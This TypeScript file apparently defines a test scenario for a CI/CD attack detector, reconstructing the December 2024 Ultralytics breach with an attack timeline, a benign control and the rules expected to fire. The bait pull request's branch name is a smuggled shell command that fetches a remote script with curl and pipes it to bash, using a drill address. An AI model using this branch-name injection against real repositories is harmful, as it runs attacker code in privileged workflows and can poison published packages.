import { headOf, inventory } from './baseline.ts';
import { forked, openedWithRun, reviewedChange, type Workflow, wholeRun } from './github-acts.ts';
import { type ChangeOf, createStage, pullRequest, type Stage } from './github-bodies.ts';
import type { Cast, Scenario, ScenarioStep } from './scenario.ts';

const repository = 'ultralytics';
const thief = 'openimbot';
const contributor = 'mira-contributor';
const maintainer = 'glenn-maintainer';
const reviewer = 'lea-reviewer';
const format: Workflow = {
  repository,
  name: 'Ultralytics Actions',
  path: '.github/workflows/format.yml',
  trigger: 'pull_request_target',
  job: 'format',
};
const publish = { repository, name: 'Publish to PyPI', path: '.github/workflows/publish.yml', trigger: 'push' };

/** A change of the house: the formatting workflow runs for it as for all. */
function houseWork(stage: Stage, from: { fork: boolean }): ScenarioStep[] {
  const work: ChangeOf = {
    ...{ repository, number: 18_015, title: 'Fix a link in the docs', author: maintainer, association: 'MEMBER' },
    ...{ head: stage.sha('docs'), branch: 'docs-link', base: headOf(stage, repository), ...from },
  };
  const says = `${maintainer} opened a pull request`;
  const runSays = 'the formatting workflow ran for it, as it does for all';
  return openedWithRun(stage, { name: 'work', says, atMs: 100, runSays }, work, format);
}

/** A change that is merged, and published from the default branch: what a poisoned cache waits for. */
function release(stage: Stage, of: ChangeOf & { files: string[] }, atMs: number): ScenarioStep[] {
  const merge = stage.sha(`merge of ${of.number}`);
  return [
    ...reviewedChange(stage, { name: 'version', atMs }, { ...of, reviewer, merge }),
    ...wholeRun(
      stage,
      { name: 'publish', says: 'main was built for PyPI, with what the cache held', atMs: atMs + 400 },
      { ...publish, by: reviewer, revision: merge, branch: 'main', job: 'publish' },
    ),
  ];
}

function attack(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const base = headOf(stage, repository);
  const bait: ChangeOf = {
    ...{ repository, number: 18_018, title: 'Update README.md', author: thief, association: 'NONE', fork: true, base },
    head: stage.sha('bait'),
    // As it was; only the address that it fetches is a drill's.
    branch: `$({curl,-sSfL,raw.example.com/ultralytics/ultralytics/d8daa0b/file.sh}\${IFS}|\${IFS}bash)`,
    openedAtMs: 1000,
  };
  const version = {
    ...{ repository, number: 18_020, title: 'ultralytics 8.3.41 fix trackers', author: maintainer },
    ...{ association: 'MEMBER', head: stage.sha('version'), branch: 'trackers', base },
    files: ['ultralytics/__init__.py'],
  };
  return [
    ...houseWork(stage, { fork: false }),
    forked(stage, { name: 'fork', says: `${thief} forked the repository`, atMs: 700 }, { repository, by: thief }),
    ...openedWithRun(
      stage,
      {
        ...{ name: 'bait', says: 'a pull request came whose branch is called like a command', atMs: 1000 },
        runSays: 'the formatting workflow executed the name, which filled a cache',
      },
      bait,
      format,
    ),
    pullRequest(stage, { name: 'bait-gone', says: 'the pull request was closed', atMs: 1600 }, 'closed', bait),
    ...release(stage, version, 2200),
  ];
}

function benign(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const change = {
    ...{ repository, number: 18_018, title: 'Update README.md', author: contributor, association: 'CONTRIBUTOR' },
    ...{ head: stage.sha('readme'), branch: 'update-readme', base: headOf(stage, repository), fork: true },
    files: ['README.md'],
  };
  const fork = { repository, by: contributor };
  const tests = { repository, name: 'CI', path: '.github/workflows/ci.yml', trigger: 'pull_request' };
  return [
    ...houseWork(stage, { fork: true }),
    forked(stage, { name: 'fork', says: `${contributor} forked the repository`, atMs: 700 }, fork),
    ...wholeRun(
      stage,
      { name: 'tests', says: 'the tests of their pull request ran, without any rights', atMs: 1400 },
      { ...tests, by: contributor, revision: change.head, branch: change.branch, fork: contributor, job: 'tests' },
    ),
    ...release(stage, change, 1900),
  ];
}

export const ultralytics: Scenario = {
  id: 'ultralytics',
  title: 'Ultralytics, December 2024',
  breach: { number: 13, name: 'Ultralytics', date: '2024-12' },
  narrative:
    'A pull request came from a fork whose branch was called like a shell command. A workflow that runs with the rights of the base put the name into a script, executed it, and so filled the cache that the publishing workflow reads. ' +
    'The next releases, built from reviewed commits and signed as always, mined cryptocurrency on the machines of those who installed them. ' +
    'Two more were put on PyPI three days later with a stolen token, by no run: PyPI alone could have told of these, and they are left out.',
  provenance: 'reconstructed',
  sources: [
    {
      title: 'PyPI: supply-chain attack analysis, Ultralytics',
      url: 'https://blog.pypi.org/posts/2024-12-11-ultralytics-attack-analysis/',
    },
    { title: 'Ultralytics, issue 18027', url: 'https://github.com/ultralytics/ultralytics/issues/18027' },
  ],
  baseline: (cast) => {
    const stage = createStage(cast);
    const path = (file: string) => `${stage.fullName(repository)}/${file}`;
    return inventory(stage, {
      repositories: [repository],
      members: [
        { login: maintainer, role: 'admin' },
        { login: reviewer, role: 'member' },
      ],
      withSecrets: { [repository]: format.path },
      settings: {
        'privileged-fork-trigger': { holdMs: 500 },
        'fork-cache-to-release': { cachingWorkflows: [path(format.path)], releaseWorkflows: [path(publish.path)] },
      },
    });
  },
  attack,
  benign,
  expects: [
    { rule: 'untrusted-metadata-injection', decidingStep: 'bait', responses: ['block-user'] },
    { rule: 'privileged-fork-trigger', decidingStep: 'bait-run', afterMs: 500, responses: ['stop-run'] },
    {
      rule: 'fork-cache-to-release',
      decidingStep: 'publish',
      responses: ['stop-run', 'delete-caches', 'delete-artifacts'],
    },
  ],
};
